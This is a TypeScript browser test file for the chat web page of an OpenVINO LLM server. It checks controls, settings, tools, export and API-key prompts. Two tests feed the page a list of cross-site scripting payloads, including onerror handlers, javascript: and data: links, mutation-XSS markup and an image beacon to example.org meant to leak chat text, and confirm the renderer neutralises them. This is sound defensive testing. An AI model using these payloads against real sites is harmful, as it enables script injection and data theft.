import { mkdir, readFile } from 'node:fs/promises'
import { join } from 'node:path'
import t from 'tap'
import { barriers, openPage, type Page, skipWithoutBrowser } from './browser.js'
import { servePage } from './page-model.js'

const pictures = join('build', 'pictures')
const skip = skipWithoutBrowser

/** Writes down the name of every control that was visible in this tab, and of those that were used. */
const bookkeeping = `
  const kinds = 'button, input, select, textarea, summary, a, [tabindex]'
  const nameOf = (control) => {
    if (control.matches('.sidebar .title')) return 'a chat'
    if (control.matches('pre')) return 'code'
    const label = control.getAttribute('aria-label') ?? control.labels?.[0]?.firstElementChild?.textContent ?? control.labels?.[0]?.textContent ?? control.textContent
    return control.tagName.toLowerCase() + ' ' + label.trim().replace(/^Delete (?!all).*/, 'Delete')
  }
  const note = (kind, name) => sessionStorage.setItem(kind + ' ' + name, '')
  globalThis.named = (kind) => Object.keys(sessionStorage).filter((key) => key.startsWith(kind + ' ')).map((key) => key.slice(kind.length + 1))
  new MutationObserver(() => {
    for (const control of document.querySelectorAll(kinds)) if (control.checkVisibility()) note('seen', nameOf(control))
  }).observe(document, { subtree: true, childList: true, attributes: true })
  const use = ({ target }) => {
    const control = target.closest?.(kinds)
    if (control) note('used', nameOf(control))
  }
  for (const kind of ['click', 'input', 'change', 'keydown']) addEventListener(kind, use, true)
`

async function ask(page: Page, text: string): Promise<void> {
  await page.getByLabel('Message', { exact: true }).fill(text)
  await page.getByRole('button', { name: 'Send' }).click()
}
/** Waits until the last answer is whole. What it says is there before, so that it is not the one before. */
const ended = (page: Page) => page.locator('.answer').last().locator('.figures').waitFor()
const picture = async (page: Page, name: string) => {
  await mkdir(pictures, { recursive: true })
  await page.screenshot({ path: join(pictures, `${name}.png`) })
}

const markdown = [
  'Some **bold** and [a link](https://example.org/).',
  '## Two',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '```js\nconst a = 1 < 2\n```',
  '- one\n- two',
].join('\n\n')

t.test('every control of the page does what it says', { skip }, async (t) => {
  await using served = await servePage({ Show: markdown, JSON: '{"a":[1]}' })
  await using opened = await openPage(served.url, bookkeeping)
  const { page } = opened
  const field = (name: string) => page.getByLabel(name, { exact: true })
  const button = (name: string) => page.getByRole('button', { name, exact: true })
  const said = (text: string) => page.getByText(text, { exact: true })
  const last = () => served.asked.at(-1) as (typeof served.asked)[number]
  t.same(await barriers(page), [], 'the empty page')
  await picture(page, 'empty')

  await t.test('an example, an answer, copying', async (t) => {
    for (let i = 0; i < 4; i++) {
      if (i > 0) await button('New chat').click()
      await page.locator(`.examples li:nth-child(${i + 1}) button`).click()
      await page.getByText(/^You said: .* 1 times$/).waitFor()
      await ended(page)
    }
    await ask(page, 'Show')
    await page.locator('.prose table').waitFor()
    await ended(page)
    t.match(await page.locator('.figures').last().textContent(), /first token .* 40 tokens · prompt 12 \(8 cached\)/)
    t.equal(await page.locator('.prose strong').textContent(), 'bold')
    await page.locator('.answer summary').last().click()
    t.equal(await page.locator('details[open] em').textContent(), 'think')
    for (const name of ['Copy code', 'Copy answer', 'Copy question']) {
      await button(name).last().click()
      await page
        .getByRole('button', { name: /^Cop(ied|ying failed)$/ })
        .first()
        .waitFor()
    }
    const link = page.locator('.prose a')
    t.equal(await link.evaluate((a) => a.rel), 'noopener noreferrer nofollow')
    // Followed, it would ask another host.
    await link.evaluate((a) =>
      a.addEventListener('click', (event: { preventDefault(): void }) => event.preventDefault()),
    )
    await link.click()
    await field('Table').focus()
    await field('Table').press('ArrowRight')
    await page.locator('.code pre').last().press('ArrowRight')
    t.same(await barriers(page), [], 'an answer')
    await picture(page, 'answer')
  })

  await t.test('edit, retry, stop', async (t) => {
    await button('Edit question').last().click()
    t.same(await barriers(page), [], 'editing')
    await button('Cancel').click()
    await button('Edit question').last().click()
    await field('Question').fill('Other')
    await button('Ask again').click()
    await said('You said: Other, 1 times').waitFor()
    await ended(page)
    t.equal(await said('Show').count(), 0)
    await button('Answer again').click()
    await said('You said: Other, 2 times').waitFor()
    await ended(page)
    t.same(last().messages.at(-1), { role: 'user', content: 'Other' })
    for (const [i, stop] of [() => button('Stop').click(), () => page.keyboard.press('Escape')].entries()) {
      await ask(page, 'Wait')
      await said(`You said: Wait, ${i + 1} times`).waitFor()
      await stop()
      await ended(page)
      t.equal(await page.locator('.figures').last().textContent(), 'stopped')
    }
    await field('Conversation').press('Shift')
    await page.locator('.scroller').evaluate((scroller) => scroller.scrollTo(0, 0))
    await button('Latest').click()
    await button('Latest').waitFor({ state: 'detached' })
  })

  await t.test('settings, JSON, tools', async (t) => {
    await page.getByRole('combobox', { name: 'Model' }).selectOption('second')
    await button('Settings').click()
    const fields: [string, string][] = [
      ['System prompt', 'Be brief.'],
      ['Temperature', '0.5'],
      ['Max tokens', '50'],
      ['Top p', '0.9'],
      ['Top k', '40'],
      ['Min p', '0.05'],
      ['Repetition penalty', '1.1'],
      ['Presence penalty', '0.1'],
      ['Frequency penalty', '0.2'],
      ['Seed', '7'],
      ['Stop texts', 'x\ny'],
    ]
    for (const [name, value] of fields) await field(name).fill(value)
    await field('Reasoning').selectOption('low')
    await field('Format').selectOption('schema')
    await field('JSON Schema').fill('{')
    await page.getByText(/this is not JSON/).waitFor()
    t.same(await barriers(page), [], 'settings')
    await picture(page, 'settings')
    await field('JSON Schema').fill('{"type":"object"}')
    await field('Colours').selectOption('dark')
    await page.locator('html[data-theme=dark]').waitFor()
    t.equal(await page.evaluate('getComputedStyle(document.body).colorScheme'), 'dark')
    await button('Close').click()
    t.equal(await page.evaluate('document.activeElement.title'), 'Settings', 'the focus is back')
    await ask(page, 'JSON')
    await page.locator('.answer > .code').waitFor()
    await ended(page)
    t.equal(await page.locator('.answer > .code pre').textContent(), '{\n  "a": [\n    1\n  ]\n}')
    t.match(last().messages[0], { role: 'system', content: 'Be brief.' })
    t.match(last().options, {
      temperature: 0.5,
      maxNewTokens: 50,
      topP: 0.9,
      topK: 40,
      minP: 0.05,
      repetitionPenalty: 1.1,
      presencePenalty: 0.1,
      frequencyPenalty: 0.2,
      seed: 7,
      stop: ['x', 'y'],
      reasoning: 'low',
      responseFormat: { type: 'json_schema', schema: { type: 'object' } },
    })
    await button('Settings').click()
    await button("Reset this chat's settings").click()
    t.equal(await field('Temperature').inputValue(), '')
    const tools = [{ type: 'function', function: { name: 'weather', parameters: { type: 'object' } } }]
    await field('Tools').fill(JSON.stringify(tools))
    await page.keyboard.press('Escape')
    await ask(page, 'Weather?')
    await page.locator('summary:has(code)').click()
    await page.getByRole('textbox', { name: 'Result of weather' }).fill('sunny')
    t.same(await barriers(page), [], 'a tool call')
    await picture(page, 'tools')
    await button('Send results').click()
    await said('The tool said sunny').waitFor()
    t.same(last().messages.at(-1), { role: 'tool', content: 'sunny', tool_call_id: 'call_1' })
    await page.getByText('Result of the tool', { exact: true }).click()
    await ended(page)
  })

  await t.test('metrics, export, history', async (t) => {
    await button('Server').click()
    await page.getByRole('img', { name: /^KV cache in use: now 30 %/ }).waitFor()
    t.same(await barriers(page), [], 'metrics')
    await picture(page, 'metrics')
    await page.keyboard.press('Escape')
    await button('Export').click()
    t.same(await barriers(page), [], 'export')
    for (const [name, expected] of [
      ['This chat as Markdown', /^# .*\n\n## You/],
      ['This chat as JSON', /^\{\n {2}"id"/],
      ['All chats as JSON', /^\[\n {2}\{/],
    ] as const) {
      const [download] = await Promise.all([page.waitForEvent('download'), button(name).click()])
      t.match(await readFile(await download.path(), 'utf8'), expected)
    }
    await button('Close').click()
    await page.reload()
    const titles = page.locator('.sidebar .title')
    await titles.first().click()
    await said('The tool said sunny').waitFor()
    t.equal(await titles.count(), 4)
    await page.locator('.sidebar li').first().hover()
    await page
      .getByRole('button', { name: /^Delete / })
      .first()
      .click()
    await page.locator('.sidebar li:nth-child(4)').waitFor({ state: 'detached' })
    t.equal(await titles.count(), 3)
    await titles.first().click()
    await button('Export').click()
    await button('Delete all chats').click()
    await titles.first().waitFor({ state: 'detached' })
    t.equal(await titles.count(), 0)
    t.equal(await page.evaluate('Object.keys(localStorage).filter((key) => key.includes("chat.")).length'), 0)
  })

  // A button that has copied says so for a moment, and is the same.
  const unused = `named('seen').filter((name) => !named('used').includes(name) && !/ Cop(ied|ying failed)$/.test(name))`
  t.same(await page.evaluate(unused), [], 'every control was used')
  t.ok((await page.evaluate<string[]>(`named('seen')`)).length > 40)
  t.same(opened.wrong, [])
})

const attacks = [
  '<script>globalThis.harm = 1</script>',
  '<img src=x onerror="globalThis.harm = 1">',
  '<svg><script>globalThis.harm = 1</script></svg> <svg/onload=alert(1)>',
  '<iframe srcdoc="<script>parent.harm = 1</script>"></iframe>',
  '<a href="javascript:alert(1)">click</a> <form action="https://example.org"><button>go</button></form>',
  '<style>body { display: none }</style><link rel=stylesheet href=https://example.org/x.css>',
  '<base href="https://example.org/"><meta http-equiv=refresh content="0;url=https://example.org">',
  '[click](javascript:alert(1)) [click](JAVASCRIPT&colon;alert(1)) <javascript:alert(1)>',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](https://example.org/steal.png?what=was-said) ![x](javascript:alert(1))',
  '[x](https://example.org/"onmouseover="alert(1)) [y](https://example.org "" onclick=alert(1)")',
  '```"><script>globalThis.harm = 1</script>\n</code></pre><script>globalThis.harm = 1</script>\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>globalThis.harm = 1</script> |',
  '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;globalThis.harm = 1&#60;/script&#62;',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
]

t.test('what a model writes does nothing', { skip }, async (t) => {
  const answers = Object.fromEntries(attacks.map((text, i) => [`Attack ${i}`, `${text}\n\nEnd of ${i}.`]))
  await using served = await servePage(answers)
  await using opened = await openPage(served.url)
  const { page } = opened
  for (const i of attacks.keys()) {
    await ask(page, `Attack ${i}`)
    // Some attacks swallow the next line, as text.
    await page.locator('.answer').last().locator(`text=End of ${i}.`).last().waitFor()
    await ended(page)
  }
  t.equal(await page.evaluate('document.querySelectorAll(".answer").length'), attacks.length)
  const made = `[...document.querySelectorAll('.prose *')].flatMap((element) => [
    element.localName, ...[...element.attributes].map(({ name }) => name)])`
  const harmful = /^(script|style|svg|math|i?frame|img|form|input|object|embed|base|meta|link|on.*|src.*|style|action)$/
  // The icons of the buttons that copy are the page's own.
  const own = `document.querySelectorAll('.prose .icon-button').forEach((button) => button.remove())`
  await page.evaluate(own)
  t.same(
    (await page.evaluate<string[]>(made)).filter((name) => harmful.test(name)),
    [],
  )
  const targets = await page.evaluate<string[]>(
    `[...document.querySelectorAll('.prose a')].map(({ protocol }) => protocol)`,
  )
  t.ok(targets.length > 2)
  t.same([...new Set(targets)], ['https:'])
  t.equal(await page.evaluate('globalThis.harm'), undefined)
  t.same(opened.wrong, [])
})

t.test('what lies in the storage does nothing', { skip }, async (t) => {
  await using served = await servePage()
  const evil = '<img src=x onerror=alert(1)>'
  const turns = [
    { role: 'user', text: evil },
    {
      role: 'assistant',
      text: evil,
      reasoning: evil,
      model: evil,
      error: evil,
      toolCalls: [{ id: 'a', name: evil, arguments: evil }],
    },
  ]
  const chat = { id: 'evil', title: evil, updated: 1, turns, settings: { model: evil, system: evil } }
  const script = `
    localStorage.setItem('openvino-llm.chat.evil', ${JSON.stringify(JSON.stringify(chat))})
    localStorage.setItem('openvino-llm.chat.broken', '{"id":"broken","turns":[null,{"role":"assistant","toolCalls":5}]}')
    localStorage.setItem('openvino-llm.settings', '"x"')`
  await using opened = await openPage(served.url, script)
  const { page } = opened
  await page.locator('.sidebar .title').first().click()
  await page.locator('.answer > .prose').waitFor()
  t.match(await page.locator('.bubble').textContent(), evil)
  t.equal(await page.evaluate('document.querySelectorAll("main img, main script").length'), 0)
  await page.locator('.sidebar .title').last().click()
  await page.locator('.answer').waitFor()
  t.same(opened.wrong, [])
})

t.test('an API key is asked for, and kept for the tab', { skip }, async (t) => {
  await using served = await servePage({}, { apiKeys: ['correct horse'] })
  await using opened = await openPage(served.url)
  const { page } = opened
  const key = page.getByLabel('Key', { exact: true })
  await key.waitFor()
  t.same(await barriers(page), [])
  await page.keyboard.type('wrong horse')
  await page.keyboard.press('Enter')
  await page.getByText(/does not know this key/).waitFor()
  await page.keyboard.press('Escape')
  await page.getByRole('button', { name: 'Try again' }).click()
  await key.fill('correct horse')
  await page.getByRole('button', { name: 'Use this key' }).click()
  await key.waitFor({ state: 'detached' })
  await ask(page, 'Hello')
  await page.getByText('You said: Hello, 1 times', { exact: true }).waitFor()
  await page.reload()
  await ask(page, 'Hello')
  await page.getByText('You said: Hello, 2 times', { exact: true }).waitFor()
  t.same(opened.wrong, [])
})

t.test('a narrow screen shows the chats on demand, and is not wider than it is', { skip }, async (t) => {
  const wide = `| ${'column | '.repeat(30)}\n|${'---|'.repeat(30)}\n\n${'long'.repeat(200)}\n\n\`\`\`\n${'x '.repeat(300)}\n\`\`\``
  await using served = await servePage({ Wide: wide })
  await using opened = await openPage(served.url)
  const { page } = opened
  await page.setViewportSize({ width: 360, height: 640 })
  await ask(page, 'Wide')
  await page.locator('.code').waitFor()
  await ended(page)
  t.ok(
    await page.evaluate(
      'document.documentElement.scrollWidth <= innerWidth && document.querySelector(".scroller").scrollWidth <= innerWidth',
    ),
  )
  await picture(page, 'narrow')
  await page.getByRole('button', { name: 'Chats' }).click()
  await page.getByRole('button', { name: 'Hide the chats' }).waitFor()
  t.same(await barriers(page), [])
  await picture(page, 'narrow-chats')
  await page.getByRole('button', { name: 'New chat' }).click()
  await page.getByRole('button', { name: 'Hide the chats' }).waitFor({ state: 'detached' })
  await page.getByText('Start a chat').waitFor()
  await page.getByRole('button', { name: 'Chats' }).click()
  await page.locator('.sidebar .title').click()
  await page.locator('.code').waitFor()
  t.same(opened.wrong, [])
})
